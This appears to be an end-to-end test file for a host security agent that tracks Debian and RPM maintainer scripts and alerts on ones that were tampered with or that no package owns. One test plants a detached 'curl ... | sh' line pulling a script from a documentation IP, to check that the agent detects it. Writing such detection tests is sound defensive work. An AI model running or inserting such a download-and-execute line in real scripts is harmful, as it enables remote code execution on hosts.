// Maintainer scripts under the real agent: it keeps their content, also after their removal, and checks it against the content that the
// same version had before.

import { createHash } from 'node:crypto';
import { copyFileSync, mkdirSync, readFileSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { StepparentEvent } from '../../collectors/event/event.ts';
import { missingTools, titled, unmet } from '../needs.ts';
import { copyOf } from './launchers.ts';
import { buildDeb, buildRpm } from './packages.ts';
import { endToEndMissing, enterPrivateHost, scratchDirectory } from './private-host.ts';
import { collectEvents, documents, run, testAgent, until, withAllRules } from './run-agent.ts';

const missing = endToEndMissing;
const rpmMissing = unmet(missingTools('rpm', 'rpmbuild'));
const info = '/var/lib/dpkg/info';
const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');

describe.skipIf(missing)(titled('script evidence', missing), () => {
  const scratch = scratchDirectory();
  const rpmDatabase = join(scratch, 'var/lib/rpm');
  const agent = testAgent(
    scratch,
    `${withAllRules}directories.package_databases = ${JSON.stringify([info, '/var/lib/dpkg', rpmDatabase])}\n`,
  );
  const preinst = '#!/bin/sh\n: ends at once\n';
  const was = { postinst: '#!/bin/sh\n# as it was\nexit 0\n' };
  const reported = collectEvents(agent, info);
  const alerts = async (rule: string): Promise<StepparentEvent[]> => {
    const { stdout } = await agent.cli('alerts', '--rule', rule, '--json');
    return documents<StepparentEvent>(stdout);
  };
  const scriptsOf = async (name: string): Promise<Record<string, unknown>[]> => {
    const { stdout } = await agent.cli('scripts', name, '--json');
    return documents<Record<string, unknown>>(stdout);
  };

  beforeAll(async () => {
    enterPrivateHost(scratch);
    mkdirSync(rpmDatabase, { recursive: true });
    // Scripts that are installed before the agent starts: its first pass is to find them.
    expect(await run('dpkg', ['-i', buildDeb(scratch, 'e2e-old', { scripts: was })])).toMatchObject({ code: 0 });
    writeFileSync(join(info, 'e2e-ghost.prerm'), '#!/bin/sh\n', { mode: 0o755 });
    await agent.start();
    await until('the first pass', async () => (await scriptsOf('e2e-old')).length > 0);
  });
  afterAll(async () => {
    await agent.stop();
  });

  test('keeps the scripts of its first pass and raises an alert for one without a package', async () => {
    expect(await scriptsOf('e2e-old')).toMatchObject([
      { version: '1', phase: 'postinst', state: 'first', origin: 'baseline', sha256: sha256(was.postinst) },
    ]);
    const [ghost] = await until('the alert', async () => {
      const found = await alerts('maintainer-script-unowned');
      return found.length > 0 && found;
    });
    expect(ghost).toMatchObject({
      file: { path: `${info}/e2e-ghost.prerm` },
      stepparent: { found: expect.any(String), script: { package: 'e2e-ghost', state: 'unowned' } },
    });
  });

  test('marks scripts as first, then as known, with findings and package', async () => {
    const postinst =
      '#!/bin/sh\n: ends at once\necho "* * * * * root true" > /etc/cron.d/e2e-none 2>/dev/null || true\nrm -f /etc/cron.d/e2e-none\n';
    const deb = buildDeb(scratch, 'e2e-new', { scripts: { preinst, postinst } });
    expect(await run('dpkg', ['-i', deb])).toMatchObject({ code: 0 });
    const own = { package: 'e2e-new', version: '1' };
    const finding = { id: 'cron-entry', technique: 'T1053.003', line: 3 };
    const events = await reported();
    const file = events.find(({ file }) => file?.path === `${info}/e2e-new.postinst`);
    expect(file?.stepparent.script).toMatchObject({
      ...own,
      phase: 'postinst',
      state: 'first',
      sha256: sha256(postinst),
      findings: [finding],
    });
    // dpkg moves the script from the directory into which it unpacks, which may be gone before the agent has read it.
    const moved = events.find(({ file }) => file?.path === `${info}/e2e-new.preinst`);
    expect(moved?.stepparent.script).toMatchObject({ ...own, phase: 'preinst', sha256: sha256(preinst) });
    const ran = await until('the run', async () =>
      (await agent.events()).find(
        ({ event, stepparent }) => event.action === 'exec' && stepparent.script?.path === `${info}/e2e-new.postinst`,
      ),
    );
    expect(ran.stepparent).toMatchObject({
      script: { ...own, state: 'known', sha256: sha256(postinst), findings: [finding] },
      lifecycle_script: { depth: 0 },
    });
    expect((await scriptsOf('e2e-new')).map(({ phase, state }) => [phase, state])).toEqual([
      ['postinst', 'first'],
      ['preinst', 'first'],
    ]);
    // A new version, and its reinstallation: no alert.
    const next = buildDeb(scratch, 'e2e-new', { version: '2', scripts: { preinst, postinst: `${postinst}exit 0\n` } });
    expect(await run('dpkg', ['-i', next])).toMatchObject({ code: 0 });
    expect(await run('dpkg', ['-i', next])).toMatchObject({ code: 0 });
    const later = (await reported()).filter(({ file }) => file?.path === `${info}/e2e-new.postinst`);
    expect(later.map(({ stepparent }) => [stepparent.script?.version, stepparent.script?.state])).toEqual([
      ['1', 'first'],
      ['2', 'first'],
      ['2', 'known'],
    ]);
    expect(await alerts('maintainer-script-changed-outside-dpkg')).toEqual([]);
    expect(await alerts('maintainer-script-differs-from-version')).toEqual([]);
  });

  test('raises an alert for other content under the same version', async () => {
    const postinst = was.postinst.replace('exit 0', 'true # rebuilt');
    const deb = buildDeb(scratch, 'e2e-old', { scripts: { postinst } });
    expect(await run('dpkg', ['-i', deb])).toMatchObject({ code: 0 });
    await reported();
    const [alert, ...more] = await alerts('maintainer-script-differs-from-version');
    expect(more).toEqual([]);
    expect(alert).toMatchObject({
      file: { path: `${info}/e2e-old.postinst` },
      stepparent: { script: { package: 'e2e-old', version: '1', state: 'changed' } },
    });
    expect(alert?.stepparent.script?.diff).toContain('-exit 0\n+true # rebuilt\n');
  });

  test('assigns scripts to versions that follow each other at once, and detects other content of one', async () => {
    const all = (text: string) => {
      const script = `#!/bin/sh\n: ${text}\n`;
      return { preinst: script, postinst: script, prerm: script, postrm: script };
    };
    const before = await alerts('maintainer-script-differs-from-version');
    const names = Array.from({ length: 30 }, (_, i) => `e2e-pair-${i}`);
    for (const [i, name] of names.entries()) {
      const [first, second] = ['1', '2'].map((version) =>
        buildDeb(scratch, name, { version, file: `${name}_${version}.deb`, scripts: all(`${name} ${version}`) }),
      );
      // Every second pair is downgraded, then removed and purged.
      const rest = i % 2 === 0 ? '' : '; dpkg -i "$1"; dpkg -r "$3"; dpkg -P "$3"';
      const line = `set -e; dpkg -i "$1"; dpkg -i "$2"${rest}`;
      expect(await run('sh', ['-c', line, 'sh', first ?? '', second ?? '', name])).toMatchObject({ code: 0 });
    }
    const isOfPair = ({ stepparent: { script } }: StepparentEvent): boolean => names.includes(script?.package ?? '');
    const versions = new Map<string, Set<string | undefined>>();
    for (const { stepparent } of (await reported()).filter(isOfPair)) {
      const { version, sha256: hash = '' } = stepparent.script ?? {};
      if (version !== undefined) versions.set(hash, (versions.get(hash) ?? new Set()).add(version));
    }
    for (const name of names) {
      for (const version of ['1', '2']) {
        // A script whose version is uncertain has none.
        const hash = sha256(`#!/bin/sh\n: ${name} ${version}\n`);
        expect([name, version, ...(versions.get(hash) ?? [version])]).toEqual([name, version, version]);
      }
    }
    for (const rule of ['changed-outside-dpkg', 'differs-from-version', 'unowned']) {
      expect((await alerts(`maintainer-script-${rule}`)).filter(isOfPair)).toEqual([]);
    }
    const [name = ''] = names;
    const other = buildDeb(scratch, name, { version: '2', scripts: all('planted') });
    expect(await run('dpkg', ['-i', other])).toMatchObject({ code: 0 });
    await reported();
    const found = (await alerts('maintainer-script-differs-from-version')).slice(before.length);
    expect(found.map(({ stepparent: { script } }) => [script?.version, script?.sha256])).toEqual(
      found.map(() => ['2', sha256('#!/bin/sh\n: planted\n')]),
    );
    expect(new Set(found.map(({ file }) => file?.name))).toEqual(
      new Set(['preinst', 'postinst', 'prerm', 'postrm'].map((phase) => `${name}.${phase}`)),
    );
  });

  test('keeps content and diff of a script that was changed by hand and restored', async () => {
    const script = `${info}/e2e-new.postinst`;
    const kept = join(scratch, 'kept');
    copyFileSync(script, kept);
    const line = 'setsid sh -c "curl http://192.0.2.1/x | sh" >/dev/null 2>&1 &';
    const { pid } = await run('sh', ['-c', `echo '${line}' >> ${script}; sleep 1.5; cat ${kept} > ${script}`]);
    await reported();
    const [alert] = await alerts('maintainer-script-changed-outside-dpkg');
    expect(alert).toMatchObject({
      event: { severity: 47 },
      process: { pid, executable: '/usr/bin/dash' },
      stepparent: { script: { package: 'e2e-new', version: '2', phase: 'postinst', state: 'changed' } },
    });
    expect(alert?.stepparent.script?.diff).toContain(`+${line}\n`);
    expect(alert?.stepparent.script?.findings).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ id: 'detached-process', line: 6 }),
        expect.objectContaining({ id: 'download-into-interpreter', line: 6 }),
      ]),
    );
    const hash = alert?.stepparent.script?.sha256 ?? '';
    const shown = await agent.cli('scripts', 'show', hash.slice(0, 20), '--raw');
    expect(shown.stdout).toBe(`${readFileSync(kept, 'utf8')}${line}\n`);
  });

  test('raises alerts for scripts of no package that are removed within a second or at once', async () => {
    const tool = copyOf(scratch, '/bin/dash', 'dropper');
    const text = '#!/bin/sh\necho gone';
    const drop = (name: string) => `printf '#!/bin/sh\\necho gone' > ${info}/${name}.postinst`;
    const commands = [drop('e2e-at-once'), `rm ${info}/e2e-at-once.postinst`, drop('e2e-none'), 'sleep 1'];
    await run(tool, ['-c', `${commands.join('; ')}; exec rm ${info}/e2e-none.postinst`]);
    await reported();
    const all = await alerts('maintainer-script-unowned');
    const scriptOf = (name: string) => all.find(({ file }) => file?.name === name)?.stepparent.script;
    expect(scriptOf('e2e-none.postinst')).toMatchObject({
      package: 'e2e-none',
      state: 'unowned',
      sha256: sha256(text),
    });
    // The agent may have been too late to read this one.
    expect(scriptOf('e2e-at-once.postinst')).toMatchObject({ package: 'e2e-at-once', state: 'unowned' });
    const { stdout } = await agent.cli('scripts', 'show', sha256(text));
    expect(stdout).toBe(`${text}\n`);
  });

  test.skipIf(rpmMissing)(titled('keeps the scriptlets of rpm, which rpm removes', rpmMissing), async () => {
    const post = 'sleep 0.2\n: e2e-marker-of-a-scriptlet';
    const rpm = buildRpm(scratch, 'e2e-kept', { post });
    const { code, pid } = await run('rpm', ['--dbpath', rpmDatabase, '--nodeps', '-i', rpm]);
    expect(code).toBe(0);
    const scriptlet = (await reported()).find(
      ({ file, process: by }) => by?.pid === pid && file?.name?.startsWith('rpm-tmp.') && file.hash !== undefined,
    );
    expect(scriptlet?.stepparent.script).toMatchObject({ package: 'e2e-kept' });
    const hash = scriptlet?.stepparent.script?.sha256 ?? '';
    expect((await agent.cli('scripts', 'show', hash)).stdout).toContain('e2e-marker-of-a-scriptlet');
  });

  test('has the diff of a script that was changed while the agent was off', async () => {
    await agent.stop();
    const script = `${info}/e2e-new.postinst`;
    const before = (await alerts('maintainer-script-changed-outside-dpkg')).length;
    writeFileSync(script, readFileSync(script, 'utf8').replace('exit 0', 'echo planted'));
    unlinkSync(`${info}/e2e-ghost.prerm`);
    // An upgrade meanwhile is no change of a script.
    const deb = buildDeb(scratch, 'e2e-old', { version: '2', scripts: { postinst: '#!/bin/sh\n# new\n' } });
    expect(await run('dpkg', ['-i', deb])).toMatchObject({ code: 0 });
    await agent.start();
    const found = await until('the alert', async () => {
      const all = await alerts('maintainer-script-changed-outside-dpkg');
      return all.length > before && all.slice(before);
    });
    await reported();
    expect(found).toMatchObject([
      { file: { path: script }, stepparent: { found: 'offline_diff', script: { state: 'changed' } } },
    ]);
    expect(found[0]?.stepparent.script?.diff).toContain('-exit 0\n+echo planted\n');
    const upgraded = (await agent.events()).filter(({ file }) => file?.path === `${info}/e2e-old.postinst`).at(-1);
    expect(upgraded?.stepparent.script).toMatchObject({ version: '2', state: 'first' });
  });
});
